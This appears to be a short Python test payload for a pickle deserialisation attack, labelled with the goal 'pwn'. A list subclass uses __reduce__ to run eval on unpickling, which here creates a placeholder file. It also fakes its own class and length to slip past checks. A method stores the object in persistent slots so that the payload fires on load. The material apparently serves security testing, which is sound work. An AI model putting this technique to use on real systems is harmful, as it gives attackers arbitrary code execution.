# META {"kind": "pickle", "goal": "pwn", "args": [], "slots": {"name": "mallory"}}
class Row(list):
    def __reduce__(self):
        return (eval, ("open('@PWN@', 'w').close()",))
    def __class__(self):
        return list
    def __len__(self):
        return 1 << 40

def m(self):
    self._slots.live["rows"] = Row([1])
    self._p_changed = True
    return Row([Row()])
